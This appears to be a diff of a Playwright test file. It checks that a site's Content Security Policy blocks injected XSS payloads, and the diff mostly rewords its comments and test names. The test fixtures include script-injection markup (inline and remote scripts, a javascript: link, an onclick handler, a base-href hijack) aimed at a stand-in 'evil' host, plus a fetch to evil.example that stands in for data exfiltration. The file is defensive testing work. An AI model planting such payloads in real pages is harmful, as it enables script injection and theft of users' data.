@@ -7,18 +7,18 @@ declare global {
   var noteRefusal: (directive: string) => void
 }
 
-/** What leaves for another host, answered with nothing. The list grows while it is used. */
+/** Answers requests to other hosts with nothing and collects them. */
 async function noteStrangers(page: Page): Promise<string[]> {
   const asked: string[] = []
   await page.context().route(`http://${evil}/**`, route => {
     asked.push(route.request().url())
-    // A form leads away, but for this answer.
+    // A 204 keeps a form submission from navigating.
     return route.fulfill(/\/form\b/.test(route.request().url()) ? { status: 204 } : { body: '' })
   })
   return asked
 }
 
-/** From now on `path` has this hole in it. What it is sent with stays as our server says, the policy only if it is `kept`. */
+/** Serves `path` with a hole in its document. The other headers stay; the policy stays only if `kept`. */
 async function open(page: Page, path: string, spoil: (document: string) => string, kept: boolean): Promise<void> {
   await page.route(path, async route => {
     const answer = await route.fetch()
@@ -31,7 +31,7 @@ async function open(page: Page, path: string, spoil: (document: string) => strin
   await page.goto(path)
 }
 
-/** What the browser says it refused, by directive. The list grows while it is used. */
+/** Collects the directives of violations reported by the browser. */
 async function noteRefusals(page: Page): Promise<string[]> {
   const refused: string[] = []
   await page.exposeFunction('noteRefusal', (directive: string) => refused.push(directive))
@@ -43,7 +43,6 @@ async function noteRefusals(page: Page): Promise<string[]> {
 
 const isBroken = (page: Page) => page.evaluate(() => 'broken' in globalThis)
 
-/** Presses what there is to press, and writes anew what a page would write twice. */
 const act = (page: Page) =>
   page.evaluate(() => {
     const twice = document.querySelector('#twice')
@@ -57,7 +56,7 @@ const act = (page: Page) =>
 
 const biting = payloads.flatMap(([hole, text]) => (hole ? [{ hole, text }] : []))
 
-test('each of the texts does something in a page that forgets its care', async ({ open: openPage }) => {
+test('every payload works in an unsafe page', async ({ open: openPage }) => {
   test.slow()
   expect(new Set(payloads.map(([, text]) => text)).size).toBe(payloads.length)
   expect(biting.length).toBeGreaterThanOrEqual(60)
@@ -70,7 +69,7 @@ test('each of the texts does something in a page that forgets its care', async (
   for (const { hole, text } of biting) {
     document = `<!doctype html><body>${holes[hole](text)}`
     asked.length = 0
-    // A page of its own, for some of them lead theirs away.
+    // Some payloads navigate, so each gets its own page.
     const page = await context.newPage()
     await page.goto('/terms')
     await act(page).catch(() => {})
@@ -84,7 +83,7 @@ test('each of the texts does something in a page that forgets its care', async (
   expect(tame).toEqual([])
 })
 
-test('sent with our policy, none of them does: the browser refuses it, and says so', async ({ open: openPage }) => {
+test('with our policy the browser blocks every payload and reports it', async ({ open: openPage }) => {
   test.slow()
   const page = await openPage(still)
   const asked = await noteStrangers(page)
@@ -109,7 +108,7 @@ test('sent with our policy, none of them does: the browser refuses it, and says 
   expect(silent).toEqual([])
 })
 
-/** Together they ask for leave under each directive that a page of ours could break. */
+/** Covers every directive that a page could violate. */
 const inDocument = `
   <script>broken = 'a script in the page'</script>
   <script src="http://${evil}/script.js"></script>
@@ -121,7 +120,6 @@ const inDocument = `
   <object data="http://${evil}/object"></object>
   <video src="http://${evil}/film"></video>
   <base href="http://${evil}/">`
-/** What is put into a page that runs already, each with something to press. */
 const atRunTime = [
   ['script-src-elem', `<a href="javascript:void(broken='a link')">go</a>`],
   ['script-src-attr', `<button onclick="broken='a press'">go</button>`],
@@ -129,12 +127,11 @@ const atRunTime = [
   ['connect-src', `<button data-asks>go</button>`],
 ] as const
 
-/** Puts `markup` at the end of the page, as a part that takes a text for markup would, and presses what is in it. */
 const press = (page: Page, markup: string) =>
   page.evaluate(markup => {
     document.body.insertAdjacentHTML('beforeend', `<div id="hole">${markup}</div>`)
     const target = document.querySelector<HTMLElement>('#hole a, #hole button')
-    // What runs by mistake is our own code, told where to send something.
+    // Stands for our own code being tricked into sending data somewhere.
     if (target?.hasAttribute('data-asks')) void fetch('http://evil.example/said').catch(() => {})
     else target?.click()
     document.querySelector('#hole')?.remove()
@@ -145,7 +142,7 @@ for (const [kind, path, heading] of [
   ['a static page', '/terms', 'Terms of Service'],
   ['a page of the app', '/login', 'Sign in'],
 ] as const) {
-  test(`${kind} with holes in it is held by the policy alone`, async ({ open: openPage }) => {
+  test(`${kind} with holes is protected by the policy alone`, async ({ open: openPage }) => {
     const page = await openPage(still)
     const asked = await noteStrangers(page)
     const refused = await noteRefusals(page)
@@ -157,7 +154,7 @@ for (const [kind, path, heading] of [
     for (const [directive, markup] of atRunTime) {
       refused.length = 0
       await press(page, markup)
-      // The base is refused anew with each address that is read.
+      // The browser reports base-uri once per resolved address.
       const others = () => refused.filter(each => each !== 'base-uri')
       await expect.poll(others, { message: markup }).toEqual([directive])
     }
@@ -165,7 +162,7 @@ for (const [kind, path, heading] of [
     expect(asked).toEqual([])
   })
 
-  test(`${kind} with the same holes does what they say where no policy is sent`, async ({ open: openPage }) => {
+  test(`${kind} with the same holes is exploitable without a policy`, async ({ open: openPage }) => {
     const page = await openPage(still)
     const asked = await noteStrangers(page)
     await open(page, path, intoDocument, false)
